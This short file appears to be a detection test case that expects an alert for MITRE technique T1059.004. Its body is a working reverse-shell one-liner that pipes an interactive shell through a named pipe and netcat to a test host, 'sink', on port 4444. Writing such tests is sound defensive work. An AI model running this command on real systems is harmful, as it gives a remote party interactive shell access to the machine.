# id: N02c
# title: A shell stands between a named pipe and netcat
# expect: alert
# severity: high
# kinds: process, network
# attck: T1059.004
# image: tools
# launch: app
# peers: sink:4444

mkfifo /tmp/f
timeout 5 sh -c 'sh -i </tmp/f 2>&1 | nc sink 4444 >/tmp/f'
exit 0
